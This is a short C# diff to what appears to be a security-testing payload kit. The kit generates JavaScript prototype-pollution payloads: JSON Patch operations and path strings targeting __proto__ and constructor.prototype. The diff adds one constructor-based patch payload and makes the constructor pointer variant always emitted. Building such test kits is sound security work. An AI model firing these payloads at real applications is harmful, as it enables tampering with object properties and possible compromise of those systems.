@@ -78,6 +78,7 @@ public sealed class PollutionPayloads : IPayloadKit
         {
             set.Call("patch, list of keys", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":["__proto__","{{k}}"],"value":"{{k}}"},{"op":"replace","path":["constructor","prototype","{{k}}"],"value":"{{k}}"}]""", k))]);
             set.Call("patch, pointer", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":"/__proto__/{{k}}","value":"{{k}}"}]""", k))]);
+            set.Call("patch, pointer by constructor", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":"/constructor/prototype/{{k}}","value":"{{k}}"}]""", k))]);
             set.Call("pairs", k => [JsValue.Json(With("""[["__proto__.{{k}}","{{k}}"],["__proto__",{"{{k}}":"{{k}}"}]]""", k))]);
         }
 
@@ -111,8 +112,8 @@ public sealed class PollutionPayloads : IPayloadKit
         yield return ("list of constructor keys", k => JsValue.Array(JsValue.String("constructor"), JsValue.String("prototype"), JsValue.String(k)));
         yield return ("list with a list as key", k => JsValue.Array(JsValue.Array(JsValue.String("__proto__")), JsValue.String(k)));
         yield return ("pointer", k => JsValue.String($"/__proto__/{k}"));
-        if (!wide) yield break;
         yield return ("pointer by constructor", k => JsValue.String($"/constructor/prototype/{k}"));
+        if (!wide) yield break;
         yield return ("list with lists as constructor keys", k => JsValue.Array(JsValue.Array(JsValue.String("constructor")), JsValue.Array(JsValue.String("prototype")), JsValue.String(k)));
         yield return ("slashed path", k => JsValue.String($"__proto__/{k}"));
         yield return ("coloned path", k => JsValue.String($"__proto__:{k}"));
